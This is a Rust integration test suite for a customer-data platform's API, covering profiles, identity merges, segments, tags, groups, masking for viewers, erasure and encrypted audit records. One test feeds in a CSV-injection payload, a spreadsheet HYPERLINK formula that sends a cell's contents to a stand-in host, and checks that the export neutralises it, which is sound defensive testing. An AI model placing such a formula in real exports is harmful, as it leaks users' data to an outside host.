//! Profiles, segments and tags over HTTP (encryption at rest on, as in production).

use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::helpers::{TestApp, admin_app, call, owner_token, staff_token};

/// Polls `path` until `done` holds of its answer (the profiles service follows the log).
async fn eventually(app: &TestApp, path: &str, done: impl Fn(u16, &Value) -> bool) -> Value {
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let (status, v) = call(app, "GET", path, None).await;
        if done(status, &v) {
            return v;
        }
        assert!(
            Instant::now() < deadline,
            "{path} never got there: {status} {v}"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

async fn send(app: &TestApp, batch: Value) {
    let (status, body) = app
        .post("/v1/batch", json!({ "batch": batch }).to_string())
        .await;
    assert_eq!(status, 200, "{body}");
}

#[tokio::test]
async fn profiles_segments_and_tags_over_http() {
    let dir = tempfile::tempdir().expect("tempdir");
    let app = admin_app(dir.path()).await;
    send(
        &app,
        json!([
            {"type": "page", "anonymousId": "dev-1", "name": "Home", "timestamp": "2026-11-01T10:00:00Z"},
            {"type": "identify", "userId": "ann", "anonymousId": "dev-1", "timestamp": "2026-11-01T10:05:00Z",
             "traits": {"email": "Ann@Example.com", "plan": "pro", "name": "Ann"}},
            {"type": "track", "userId": "ann", "event": "Order Completed", "timestamp": "2026-11-01T10:10:00Z",
             "properties": {"revenue": 120, "currency": "USD"}},
            {"type": "track", "userId": "ann", "event": "Order Completed", "timestamp": "2026-11-03T09:00:00Z",
             "properties": {"revenue": 30}},
            {"type": "identify", "userId": "bob", "timestamp": "2026-11-02T08:00:00Z",
             "traits": {"email": "bob@example.com", "plan": "free"}},
            {"type": "group", "userId": "bob", "groupId": "acme", "timestamp": "2026-11-02T08:01:00Z",
             "traits": {"name": "Acme", "employees": 40}},
        ]),
    )
    .await;
    let ann = eventually(&app, "/api/v1/people/ann", |s, v| {
        s == 200 && v["computed"]["orders"] == 2
    })
    .await;
    // Identity: the anonymous history and the email joined Ann.
    assert_eq!(ann["identifiers"]["anonymous_id"], json!(["dev-1"]));
    assert_eq!(ann["identifiers"]["email"], json!(["ann@example.com"]));
    assert_eq!(ann["traits"]["email"], "Ann@Example.com", "decrypted");
    assert_eq!(ann["computed"]["revenue"], 150.0);
    assert_eq!(ann["computed"]["average_order_value"], 75.0);
    assert_eq!(ann["computed"]["events"], 4);
    assert_eq!(ann["computed"]["sessions"], 2);
    assert_eq!(ann["rfm"]["frequency"], 1, "the only customer");
    assert!(
        ann["merge_history"]
            .as_array()
            .is_some_and(|h| !h.is_empty())
    );
    // By another identifier, and by profile id.
    let id = ann["id"].as_u64().expect("id");
    let (s, v) = call(&app, "GET", "/api/v1/people/ANN@example.com?by=email", None).await;
    assert_eq!((s, v["id"].as_u64()), (200, Some(id)));
    let (s, v) = call(&app, "GET", &format!("/api/v1/people/{id}?by=person"), None).await;
    assert_eq!((s, v["id"].as_u64()), (200, Some(id)));
    let (s, v) = call(&app, "GET", "/api/v1/people/nobody", None).await;
    assert_eq!((s, v["code"].as_str()), (404, Some("not_found")));
    let bob = eventually(&app, "/api/v1/people/bob", |s, v| {
        s == 200 && v["groups"]["acme"]["traits"]["employees"] == 40
    })
    .await;
    assert_eq!(bob["traits"]["plan"], "free");

    // The list: search, sort, errors.
    let (s, v) = call(&app, "GET", "/api/v1/people?sort=revenue&order=desc", None).await;
    assert_eq!(s, 200, "{v}");
    assert_eq!(v["total"], 2);
    assert_eq!(v["people"][0]["id"].as_u64(), Some(id));
    let all = v["people"].clone();
    // Pages: only the page's end is put in order, the total counts every match.
    let (_, first) = call(
        &app,
        "GET",
        "/api/v1/people?sort=revenue&order=desc&limit=1",
        None,
    )
    .await;
    assert_eq!(
        (first["total"].as_u64(), first["next_offset"].as_u64()),
        (Some(2), Some(1)),
        "{first}"
    );
    assert_eq!(first["people"], json!([all[0]]));
    let (_, second) = call(
        &app,
        "GET",
        "/api/v1/people?sort=revenue&order=desc&limit=1&offset=1",
        None,
    )
    .await;
    assert_eq!(second["people"], json!([all[1]]), "{second}");
    assert_eq!(second["next_offset"], Value::Null);
    let (_, v) = call(&app, "GET", "/api/v1/people?q=bob%40example.com", None).await;
    assert_eq!(v["total"], 1);
    let (s, v) = call(&app, "GET", "/api/v1/people?sort=wealth", None).await;
    assert_eq!(
        (s, v["code"].as_str(), v["field"].as_str()),
        (400, Some("invalid_request"), Some("sort"))
    );
    let (s, _) = call(&app, "GET", "/api/v1/people?limit=0", None).await;
    assert_eq!(s, 400);

    // A viewer (no `pii.view`): the same list and profile, identifiers and personal traits
    // masked; no search, no lookup by an identifier, no merge history.
    let viewer = staff_token(&app, "viewer@shop.example", livora_store::Role::Viewer).await;
    let as_viewer = |path: String| {
        let (http, url, viewer) = (
            app.http.clone(),
            format!("{}{path}", app.url),
            viewer.clone(),
        );
        async move {
            let resp = http
                .get(url)
                .bearer_auth(viewer)
                .send()
                .await
                .expect("request");
            crate::helpers::decode(resp).await
        }
    };
    let (s, masked) = as_viewer("/api/v1/people?sort=revenue&order=desc".into()).await;
    assert_eq!(s, 200, "{masked}");
    assert_eq!(masked["total"], 2);
    let m = &masked["people"][0];
    assert_eq!(
        (m["id"].as_u64(), &m["masked"]),
        (Some(id), &json!(true)),
        "{m}"
    );
    assert_eq!(m["identifiers"]["email"], json!(["a•••@e•••.com"]), "{m}");
    assert_eq!(m["identifiers"]["user_id"], json!(["a•••"]), "{m}");
    assert_eq!(m["traits"]["email"], "A•••@E•••.com");
    assert_eq!(m["traits"]["name"], "A•••");
    assert_eq!(m["traits"]["plan"], "pro", "not personal: kept");
    assert_eq!(
        (&m["computed"]["orders"], &m["computed"]["revenue"]),
        (&json!(2), &json!(150.0)),
        "computed attributes are kept"
    );
    let text = masked.to_string();
    assert!(
        !text.contains("ann") && !text.contains("Ann") && !text.contains("bob@"),
        "{text}"
    );
    let (s, v) = as_viewer(format!("/api/v1/people/{id}?by=person")).await;
    assert_eq!(
        (s, v["traits"]["email"].as_str()),
        (200, Some("A•••@E•••.com")),
        "{v}"
    );
    assert_eq!(v["merge_history"], json!([]));
    assert!(!v.to_string().contains("dev-1"), "{v}");
    for path in [
        "/api/v1/people?q=bob%40example.com",
        "/api/v1/people/ann",
        "/api/v1/people/ann@example.com?by=email",
        "/api/v1/people/ann/timeline",
    ] {
        let (s, v) = as_viewer(path.into()).await;
        assert_eq!(
            (s, v["code"].as_str()),
            (403, Some("forbidden")),
            "{path}: {v}"
        );
    }

    // Timeline: two sessions, newest first.
    let (s, t) = call(&app, "GET", "/api/v1/people/ann/timeline", None).await;
    assert_eq!(s, 200, "{t}");
    let sessions = t["sessions"].as_array().expect("sessions");
    assert_eq!(sessions.len(), 2, "{t}");
    assert_eq!(sessions[1]["events"].as_array().map(Vec::len), Some(3));
    assert_eq!(
        sessions[1]["events"][1]["traits"]["email"],
        "Ann@Example.com"
    );

    // Segments: invalid definitions point at the part.
    let (s, v) = call(&app, "POST", "/api/v1/segments", Some(json!({
        "name": "Bad", "condition": {"and": [{"trait": {"name": "plan", "op": "equals", "value": "pro"}},
                                              {"performed": {"event": "x", "within_days": 0}}]}
    }))).await;
    assert_eq!(
        (s, v["code"].as_str()),
        (400, Some("invalid_definition")),
        "{v}"
    );
    assert_eq!(v["path"], "condition.and[1].performed.within_days");
    let (s, v) = call(
        &app,
        "POST",
        "/api/v1/segments",
        Some(json!({
        "name": "Bad ref", "condition": {"in_segment": "missing"}})),
    )
    .await;
    assert_eq!(
        (s, v["code"].as_str()),
        (400, Some("invalid_definition")),
        "{v}"
    );
    let (s, v) = call(
        &app,
        "POST",
        "/api/v1/segments",
        Some(json!({"name": "Neither"})),
    )
    .await;
    assert_eq!(s, 400, "{v}");
    // Preview, then save.
    let buyers = json!({"performed": {"event": "Order Completed", "where": [{"property": "revenue", "op": "gte", "value": 100}]}});
    let (s, v) = call(
        &app,
        "POST",
        "/api/v1/segments/preview",
        Some(json!({"condition": buyers})),
    )
    .await;
    assert_eq!((s, v["count"].as_u64()), (200, Some(1)), "{v}");
    assert_eq!(v["sample"], json!([id]));
    let (s, seg) = call(
        &app,
        "POST",
        "/api/v1/segments",
        Some(json!({
        "id": "big-buyers", "name": "Big buyers", "condition": buyers})),
    )
    .await;
    assert_eq!(s, 201, "{seg}");
    assert_eq!(seg["size"], 1);
    assert_eq!(
        seg["text"],
        "performed \"Order Completed\" where revenue ≥ 100 at least 1 time"
    );
    let (s, _) = call(
        &app,
        "POST",
        "/api/v1/segments",
        Some(json!({
        "id": "big-buyers", "name": "Again", "condition": buyers})),
    )
    .await;
    assert_eq!(s, 409);
    // A tag that uses the segment, and a segment that uses the tag.
    let (s, tag) = call(
        &app,
        "POST",
        "/api/v1/tags",
        Some(json!({
        "name": "vip", "condition": {"and": [{"in_segment": "big-buyers"},
            {"trait": {"name": "plan", "op": "equals", "value": "pro"}}]}})),
    )
    .await;
    assert_eq!((s, tag["id"].as_str()), (201, Some("vip")), "{tag}");
    let (s, _) = call(
        &app,
        "POST",
        "/api/v1/segments",
        Some(json!({
        "id": "vips", "name": "VIPs", "condition": {"tag": "vip"}})),
    )
    .await;
    assert_eq!(s, 201);
    let ann = eventually(&app, "/api/v1/people/ann", |_, v| {
        v["tags"] == json!(["vip"])
    })
    .await;
    assert_eq!(ann["segments"], json!(["big-buyers", "vips"]));
    // Entering was announced in the log, for automations.
    let events = app.all_events().await;
    let entered: Vec<&Value> = events
        .iter()
        .filter(|e| e["event"] == "Segment Entered" && e["userId"] == "ann")
        .collect();
    assert_eq!(entered.len(), 2, "{entered:?}");
    assert!(
        events
            .iter()
            .any(|e| e["event"] == "Tag Added" && e["properties"]["tag"] == "vip")
    );

    // Real time: Bob's big order makes him enter, at once.
    send(
        &app,
        json!([{"type": "track", "userId": "bob", "event": "Order Completed",
        "timestamp": "2026-11-05T12:00:00Z", "properties": {"revenue": 500}}]),
    )
    .await;
    eventually(&app, "/api/v1/segments/big-buyers", |_, v| v["size"] == 2).await;
    let (s, members) = call(
        &app,
        "GET",
        "/api/v1/segments/big-buyers/members?limit=1",
        None,
    )
    .await;
    assert_eq!((s, members["total"].as_u64()), (200, Some(2)), "{members}");
    assert_eq!(members["members"].as_array().map(Vec::len), Some(1));
    assert_eq!(members["next_offset"], 1);
    let resp = app
        .http
        .get(format!(
            "{}/api/v1/segments/big-buyers/members.csv",
            app.url
        ))
        .bearer_auth(&app.secret_key)
        .send()
        .await
        .expect("csv");
    assert_eq!(resp.status(), 200);
    assert!(
        resp.headers()["content-type"]
            .to_str()
            .unwrap_or("")
            .starts_with("text/csv")
    );
    let csv = resp.text().await.expect("text");
    assert!(
        csv.starts_with("person_id,user_id,anonymous_id,email,phone\n"),
        "{csv}"
    );
    assert!(csv.contains(",bob,,bob@example.com,"), "{csv}");
    assert_eq!(csv.lines().count(), 3);

    // Changes: rename; condition change makes Bob leave; in-use deletion refused.
    let (s, v) = call(
        &app,
        "PATCH",
        "/api/v1/segments/big-buyers",
        Some(json!({"name": "Whales"})),
    )
    .await;
    assert_eq!(
        (s, v["name"].as_str(), v["size"].as_u64()),
        (200, Some("Whales"), Some(2))
    );
    let (s, v) = call(
        &app,
        "PATCH",
        "/api/v1/segments/big-buyers",
        Some(json!({
        "condition": {"trait": {"name": "plan", "op": "equals", "value": "pro"}}})),
    )
    .await;
    assert_eq!((s, v["size"].as_u64()), (200, Some(1)), "{v}");
    let (s, v) = call(
        &app,
        "PATCH",
        "/api/v1/segments/big-buyers",
        Some(json!({
        "condition": {"trait": {"name": "plan", "op": "nope"}}})),
    )
    .await;
    assert_eq!(
        (s, v["path"].as_str()),
        (400, Some("condition.trait.op")),
        "{v}"
    );
    let (s, v) = call(&app, "DELETE", "/api/v1/segments/big-buyers", None).await;
    assert_eq!((s, v["code"].as_str()), (409, Some("conflict")), "{v}");
    let (s, _) = call(&app, "DELETE", "/api/v1/segments/vips", None).await;
    assert_eq!(s, 204);
    let (s, _) = call(&app, "DELETE", "/api/v1/segments/vips", None).await;
    assert_eq!(s, 404);
    let (s, v) = call(&app, "GET", "/api/v1/segments", None).await;
    assert_eq!(
        (s, v["segments"].as_array().map(Vec::len)),
        (200, Some(1)),
        "{v}"
    );
    let (s, v) = call(&app, "GET", "/api/v1/tags", None).await;
    assert_eq!((s, v["tags"][0]["id"].as_str()), (200, Some("vip")), "{v}");
    let (s, v) = call(&app, "GET", "/api/v1/segments/big-buyers", None).await;
    assert_eq!(s, 200);
    assert!(v["sizes"].as_array().is_some_and(|s| !s.is_empty()), "{v}");

    // A manual segment from a CSV of identifiers.
    let (s, v) = call(&app, "POST", "/api/v1/segments", Some(json!({
        "id": "press", "name": "Press list", "manual_csv": "email,user_id\nBOB@example.com,\n,nobody\n"}))).await;
    assert_eq!((s, v["size"].as_u64()), (201, Some(1)), "{v}");
    let (s, v) = call(
        &app,
        "POST",
        "/api/v1/segments",
        Some(json!({
        "name": "Broken list", "manual_csv": "e mail\nx\n"})),
    )
    .await;
    assert_eq!((s, v["path"].as_str()), (400, Some("manual_csv")), "{v}");
    // The list is stored encrypted.
    let stored = app.store.segments(app.tenant_id).await.expect("segments");
    let press = stored.iter().find(|s| s.id == "press").expect("press");
    assert!(!press.rule.contains("bob@example.com"), "{}", press.rule);
    // So is a condition, which may compare a trait with an email.
    let (s, v) = call(
        &app,
        "POST",
        "/api/v1/segments",
        Some(json!({
        "id": "ceo", "name": "The CEO",
        "condition": {"trait": {"name": "email", "op": "equals", "value": "ceo@example.com"}}})),
    )
    .await;
    assert_eq!(s, 201, "{v}");
    let stored = app.store.segments(app.tenant_id).await.expect("segments");
    let ceo = stored.iter().find(|s| s.id == "ceo").expect("ceo");
    assert!(!ceo.rule.contains("ceo@example.com"), "{}", ceo.rule);
    let (s, v) = call(&app, "GET", "/api/v1/segments/ceo", None).await;
    assert_eq!(s, 200, "{v}");
    assert!(
        v.to_string().contains("ceo@example.com"),
        "read back decrypted: {v}"
    );
    app.stop().await;
}

#[tokio::test]
async fn unmerge_splits_a_wrong_link_and_keeps_it_apart() {
    let dir = tempfile::tempdir().expect("tempdir");
    let app = admin_app(dir.path()).await;
    send(
        &app,
        json!([
            {"type": "track", "anonymousId": "kiosk", "event": "Order Completed", "properties": {"revenue": 5}},
            {"type": "identify", "userId": "carol", "traits": {"plan": "pro"}},
            {"type": "track", "userId": "carol", "event": "Order Completed", "properties": {"revenue": 100}},
            {"type": "alias", "userId": "carol", "previousId": "kiosk"},
        ]),
    )
    .await;
    let carol = eventually(&app, "/api/v1/people/carol", |s, v| {
        s == 200 && v["computed"]["orders"] == 2
    })
    .await;
    let merge = carol["merge_history"]
        .as_array()
        .and_then(|h| h.iter().find(|r| r["type"] == "merged"))
        .and_then(|r| r["id"].as_u64())
        .expect("a merge");
    let (s, v) = call(
        &app,
        "POST",
        "/api/v1/people/carol/unmerge",
        Some(json!({"merge_id": 999})),
    )
    .await;
    assert_eq!((s, v["field"].as_str()), (404, Some("merge_id")), "{v}");
    let (s, v) = call(
        &app,
        "POST",
        "/api/v1/people/carol/unmerge",
        Some(json!({"merge": 1})),
    )
    .await;
    assert_eq!((s, v["code"].as_str()), (400, Some("invalid_json")), "{v}");
    let (s, v) = call(
        &app,
        "POST",
        "/api/v1/people/carol/unmerge",
        Some(json!({"merge_id": merge})),
    )
    .await;
    assert_eq!(s, 200, "{v}");
    assert_eq!(v["people"].as_array().map(Vec::len), Some(2), "{v}");
    let (_, c) = call(&app, "GET", "/api/v1/people/carol", None).await;
    assert_eq!(c["computed"]["orders"], 1, "recomputed: {c}");
    let (_, k) = call(&app, "GET", "/api/v1/people/kiosk?by=anonymous_id", None).await;
    assert_eq!(k["computed"]["revenue"], 5.0, "{k}");
    // The same link again is refused by the split.
    send(
        &app,
        json!([{"type": "alias", "userId": "carol", "previousId": "kiosk"},
                      {"type": "track", "userId": "carol", "event": "Ping"}]),
    )
    .await;
    let c = eventually(&app, "/api/v1/people/carol", |_, v| {
        v["computed"]["events"] == 5
    })
    .await;
    assert_eq!(c["identifiers"].get("anonymous_id"), None, "{c}");
    let (s, v) = call(
        &app,
        "POST",
        "/api/v1/people/carol/unmerge",
        Some(json!({"merge_id": merge})),
    )
    .await;
    assert_eq!(
        (s, v["code"].as_str()),
        (409, Some("conflict")),
        "already undone: {v}"
    );
    app.stop().await;

    // After a restart, the log and the stored un-merge give the same persons.
    let app = admin_app(dir.path()).await;
    let c = eventually(&app, "/api/v1/people/carol", |s, v| {
        s == 200 && v["computed"]["events"] == 5
    })
    .await;
    assert_eq!(c["computed"]["orders"], 1, "{c}");
    let (_, list) = call(&app, "GET", "/api/v1/people", None).await;
    assert_eq!(list["total"], 2, "{list}");
    app.stop().await;
}

#[tokio::test]
async fn erasure_clears_the_profile_in_memory_too() {
    let dir = tempfile::tempdir().expect("tempdir");
    let app = admin_app(dir.path()).await;
    send(
        &app,
        json!([
            {"type": "identify", "userId": "dave", "anonymousId": "d-1",
             "traits": {"email": "dave@example.com", "plan": "pro"}},
            {"type": "track", "anonymousId": "d-2", "event": "Viewed",
             "context": {"traits": {"email": "dave@example.com"}}},
        ]),
    )
    .await;
    let before = eventually(&app, "/api/v1/people/dave", |s, v| {
        s == 200 && v["computed"]["events"] == 2
    })
    .await;
    assert_eq!(
        before["identifiers"]["anonymous_id"],
        json!(["d-1", "d-2"]),
        "{before}"
    );
    let (s, v) = call(&app, "DELETE", "/api/v1/people/dave", None).await;
    assert_eq!(s, 200, "{v}");
    // d-2 was linked to Dave by email only: the profiles' graph knew it.
    assert!(
        v["identities"]
            .as_array()
            .is_some_and(|i| i.contains(&json!("a:d-2"))),
        "{v}"
    );
    let (s, after) = call(&app, "GET", "/api/v1/people/dave", None).await;
    assert_eq!(s, 200, "{after}");
    // The erased value reads as null, as in the log.
    assert!(after["traits"]["email"].is_null(), "{after}");
    assert_eq!(after["traits"]["plan"], "pro");
    assert_eq!(after["identifiers"].get("email"), None, "{after}");
    app.stop().await;
}

#[tokio::test]
async fn a_shared_device_does_not_leak_into_another_timeline() {
    let dir = tempfile::tempdir().expect("tempdir");
    let app = admin_app(dir.path()).await;
    send(
        &app,
        json!([
            {"type": "identify", "userId": "erin", "anonymousId": "kiosk-2"},
            {"type": "identify", "userId": "finn", "anonymousId": "kiosk-2"},
            {"type": "track", "userId": "finn", "anonymousId": "kiosk-2", "event": "Finn Only"},
            {"type": "track", "anonymousId": "kiosk-2", "event": "Device Only"},
        ]),
    )
    .await;
    let erin = eventually(&app, "/api/v1/people/erin", |s, v| {
        s == 200 && v["computed"]["events"] == 2
    })
    .await;
    // The user id limit kept the device with Erin; Finn stays a person of his own.
    assert_eq!(
        erin["identifiers"]["anonymous_id"],
        json!(["kiosk-2"]),
        "{erin}"
    );
    let (s, t) = call(&app, "GET", "/api/v1/people/erin/timeline", None).await;
    assert_eq!(s, 200, "{t}");
    let names: Vec<&str> = t["sessions"][0]["events"]
        .as_array()
        .expect("events")
        .iter()
        .map(|e| {
            e["event"]
                .as_str()
                .unwrap_or(e["type"].as_str().unwrap_or(""))
        })
        .collect();
    assert_eq!(names, ["identify", "Device Only"], "{t}");
    app.stop().await;
}

#[tokio::test]
async fn merge_rules_are_per_tenant_and_apply_to_what_comes_next() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut app = admin_app(dir.path()).await;
    // Two users on one device: by default (one user id per person) they stay two people.
    send(
        &app,
        json!([
            {"type": "identify", "userId": "u1", "anonymousId": "dev-a"},
            {"type": "identify", "userId": "u2", "anonymousId": "dev-a"},
        ]),
    )
    .await;
    eventually(&app, "/api/v1/people/u2", |s, _| s == 200).await;
    let (s, v) = call(&app, "GET", "/api/v1/identity/rules", None).await;
    assert_eq!(s, 200, "{v}");
    assert_eq!(v["rules"]["limits"], json!({"user_id": 1}), "{v}");
    assert_eq!(v["changes"], json!([]));
    // Changing them is a tenant setting: owners only.
    let (s, v) = call(
        &app,
        "PUT",
        "/api/v1/identity/rules",
        Some(json!({"limits": {"user_id": 2}})),
    )
    .await;
    assert_eq!((s, v["code"].as_str()), (403, Some("forbidden")), "{v}");
    let owner = owner_token(&app).await;
    let admin_key = std::mem::replace(&mut app.secret_key, owner);
    for (body, path) in [
        (json!({"limits": {"user_id": 0}}), "limits.user_id"),
        (json!({"priority": ["user_id", "bad kind!"]}), "priority[1]"),
        (json!({"limits": {"user_id": "two"}}), "limits.user_id"),
    ] {
        let (s, v) = call(&app, "PUT", "/api/v1/identity/rules", Some(body.clone())).await;
        assert_eq!(s, 400, "{body}: {v}");
        assert_eq!(v["code"], "invalid_request", "{v}");
        assert_eq!(v["path"], path, "{body}: {v}");
    }
    let (s, v) = call(
        &app,
        "PUT",
        "/api/v1/identity/rules",
        Some(json!({"limitz": {}})),
    )
    .await;
    assert_eq!(
        (s, v["code"].as_str()),
        (400, Some("invalid_request")),
        "{v}"
    );
    let (s, v) = call(
        &app,
        "PUT",
        "/api/v1/identity/rules",
        Some(json!({"limits": {"user_id": 2}})),
    )
    .await;
    assert_eq!(s, 200, "{v}");
    assert_eq!(v["rules"]["limits"], json!({"user_id": 2}));
    // Missing fields take the defaults.
    assert_eq!(v["rules"]["priority"][0], "user_id", "{v}");
    app.secret_key = admin_key;
    send(
        &app,
        json!([
            {"type": "identify", "userId": "u3", "anonymousId": "dev-b"},
            {"type": "identify", "userId": "u4", "anonymousId": "dev-b"},
        ]),
    )
    .await;
    // Now two user ids may share a person: u4 joins u3.
    let v = eventually(&app, "/api/v1/people/u3", |s, v| {
        s == 200 && v["identifiers"]["user_id"].as_array().map(Vec::len) == Some(2)
    })
    .await;
    assert_eq!(v["identifiers"]["user_id"], json!(["u3", "u4"]), "{v}");
    // The people formed before the change stay as they were.
    let (s, v) = call(&app, "GET", "/api/v1/people/u1", None).await;
    assert_eq!(s, 200, "{v}");
    assert_eq!(v["identifiers"]["user_id"], json!(["u1"]), "{v}");
    let (_, v) = call(&app, "GET", "/api/v1/identity/rules", None).await;
    let changes = v["changes"].as_array().expect("changes");
    assert_eq!(changes.len(), 1, "{v}");
    assert_eq!(changes[0]["rules"]["limits"], json!({"user_id": 2}));
    assert!(
        changes[0]["changed_by"]
            .as_str()
            .is_some_and(|b| b.contains("owner@shop.example")),
        "{v}"
    );
    app.stop().await;
}

#[tokio::test]
async fn groups_hold_account_traits_and_members() {
    let dir = tempfile::tempdir().expect("tempdir");
    let app = admin_app(dir.path()).await;
    send(
        &app,
        json!([
            {"type": "identify", "userId": "gina", "traits": {"plan": "pro"}},
            {"type": "group", "userId": "gina", "groupId": "acme", "timestamp": "2026-11-01T10:00:00Z",
             "traits": {"name": "Acme Corp", "industry": "Retail", "employees": 120}},
            {"type": "group", "userId": "hal", "groupId": "acme", "timestamp": "2026-11-01T11:00:00Z",
             "traits": {"employees": 130}},
            {"type": "group", "userId": "ivy", "groupId": "globex", "traits": {"name": "Globex"}},
        ]),
    )
    .await;
    let v = eventually(&app, "/api/v1/groups", |s, v| {
        s == 200 && v["total"] == 2 && v["groups"][0]["members"] == 2
    })
    .await;
    assert_eq!(v["groups"][0]["id"], "acme", "{v}");
    assert_eq!(v["groups"][1]["id"], "globex");
    let (s, v) = call(&app, "GET", "/api/v1/groups?q=retail", None).await;
    assert_eq!(s, 200, "{v}");
    assert_eq!(v["total"], 1, "search by trait: {v}");
    let (s, v) = call(&app, "GET", "/api/v1/groups/acme", None).await;
    assert_eq!(s, 200, "{v}");
    assert_eq!(v["traits"]["name"], "Acme Corp", "{v}");
    assert_eq!(v["traits"]["employees"], 130, "the later write wins: {v}");
    assert_eq!(v["member_count"], 2);
    let mut ids: Vec<String> = v["members"]
        .as_array()
        .expect("members")
        .iter()
        .filter_map(|m| m["identifiers"]["user_id"][0].as_str().map(str::to_owned))
        .collect();
    ids.sort();
    assert_eq!(ids, ["gina", "hal"], "{v}");
    let (s, v) = call(&app, "GET", "/api/v1/groups/acme?limit=1&offset=1", None).await;
    assert_eq!(
        (s, v["members"].as_array().map(Vec::len)),
        (200, Some(1)),
        "{v}"
    );
    assert_eq!(v["next_offset"], Value::Null);
    let (s, v) = call(&app, "GET", "/api/v1/groups/nope", None).await;
    assert_eq!((s, v["code"].as_str()), (404, Some("not_found")), "{v}");
    let (s, v) = call(&app, "GET", "/api/v1/groups?limit=0", None).await;
    assert_eq!((s, v["field"].as_str()), (400, Some("limit")), "{v}");
    // The person shows the group too.
    let (s, v) = call(&app, "GET", "/api/v1/people/gina", None).await;
    assert_eq!(s, 200, "{v}");
    assert!(v["groups"].get("acme").is_some(), "{v}");
    app.stop().await;
}

/// A user id or email that a spreadsheet would read as a formula (sent with the public write
/// key, so by anyone) is written to `members.csv` with a `'` in front (CSV injection).
#[tokio::test]
async fn members_csv_neutralises_formula_cells() {
    let dir = tempfile::tempdir().expect("tempdir");
    let app = admin_app(dir.path()).await;
    let formula = "=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")";
    send(
        &app,
        json!([
            {"type": "identify", "userId": formula, "timestamp": "2026-11-01T10:00:00Z",
             "traits": {"plan": "pro", "email": "@SUM(1+1)@evil.test", "phone": "+1 555 0100"}},
            {"type": "identify", "userId": "-2+3", "timestamp": "2026-11-01T10:01:00Z",
             "traits": {"plan": "pro"}},
            {"type": "identify", "userId": "plain", "timestamp": "2026-11-01T10:02:00Z",
             "traits": {"plan": "pro"}}
        ]),
    )
    .await;
    let (s, v) = call(
        &app,
        "POST",
        "/api/v1/segments",
        Some(json!({"id": "pros", "name": "Pros",
            "condition": {"trait": {"name": "plan", "op": "equals", "value": "pro"}}})),
    )
    .await;
    assert_eq!(s, 201, "{v}");
    eventually(&app, "/api/v1/segments/pros", |_, v| v["size"] == 3).await;
    let resp = app
        .http
        .get(format!("{}/api/v1/segments/pros/members.csv", app.url))
        .bearer_auth(&app.secret_key)
        .send()
        .await
        .expect("csv");
    assert_eq!(resp.status(), 200);
    let text = resp.text().await.expect("text");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("row")).collect();
    assert_eq!(rows.len(), 3, "{text}");
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a formula cell {cell:?} in {text}"
            );
        }
    }
    let cells: Vec<&str> = rows.iter().flat_map(|r| r.iter()).collect();
    assert!(cells.contains(&format!("'{formula}").as_str()), "{text}");
    assert!(cells.contains(&"'-2+3"), "{text}");
    assert!(cells.contains(&"plain"), "kept as it is: {text}");
    app.stop().await;
}

/// Issue 22: the audit log names a person (looked up, exported, consent recorded, erased) in
/// a form that erasure makes unreadable: sealed under the person's own key, readable through
/// `GET /api/v1/audit` with `pii.view` until the erasure, never in plain text in the file.
#[tokio::test]
async fn audit_names_persons_sealed_until_erasure() {
    let dir = tempfile::tempdir().expect("tempdir");
    let app = admin_app(dir.path()).await;
    let email = "ann.audit@example.com";
    send(
        &app,
        json!([{"type": "identify", "userId": email, "traits": {"email": email, "plan": "pro"}}]),
    )
    .await;
    eventually(&app, &format!("/api/v1/people/{email}"), |s, _| s == 200).await;
    let (s, v) = call(
        &app,
        "GET",
        &format!("/api/v1/people/{email}?by=email"),
        None,
    )
    .await;
    assert_eq!(s, 200, "{v}");
    let (s, v) = call(&app, "GET", &format!("/api/v1/people/{email}/export"), None).await;
    assert_eq!(s, 200, "{v}");
    let (s, v) = call(
        &app,
        "POST",
        &format!("/api/v1/people/{email}/consents"),
        Some(json!({"purpose": "marketing", "granted": true, "source": "signup form"})),
    )
    .await;
    assert_eq!(s, 201, "{v}");
    let file = || std::fs::read_to_string(app.data_dir.join("audit.jsonl")).expect("audit");
    assert!(
        !file().contains(email),
        "plain email in the audit file:\n{}",
        file()
    );
    let targets = |audit: &Value, action: &str| -> Vec<String> {
        audit["entries"]
            .as_array()
            .expect("entries")
            .iter()
            .filter(|e| e["action"] == action)
            .filter_map(|e| e["target"].as_str().map(str::to_owned))
            .collect()
    };
    let (s, audit) = call(&app, "GET", "/api/v1/audit", None).await;
    assert_eq!(s, 200, "{audit}");
    let subject = format!("u:{email}");
    assert_eq!(
        targets(&audit, "person.export"),
        vec![subject.clone()],
        "{audit}"
    );
    assert_eq!(
        targets(&audit, "consent.record"),
        vec![subject.clone()],
        "{audit}"
    );
    let viewed = targets(&audit, "person.view");
    assert!(
        !viewed.is_empty() && viewed.iter().all(|t| t.parse::<u64>().is_ok()),
        "a lookup by email names the profile's number: {viewed:?}"
    );
    let (s, v) = call(&app, "DELETE", &format!("/api/v1/people/{email}"), None).await;
    assert_eq!(s, 200, "{v}");
    assert!(
        !file().contains(email),
        "plain email in the audit file:\n{}",
        file()
    );
    let (s, audit) = call(&app, "GET", "/api/v1/audit", None).await;
    assert_eq!(s, 200, "{audit}");
    for action in ["person.export", "consent.record", "person.erase"] {
        let t = targets(&audit, action);
        assert!(
            t.len() == 1 && t[0].starts_with("$lv1:") && !t[0].contains("ann"),
            "{action}: unreadable after the erasure: {t:?}"
        );
    }
    app.stop().await;
}
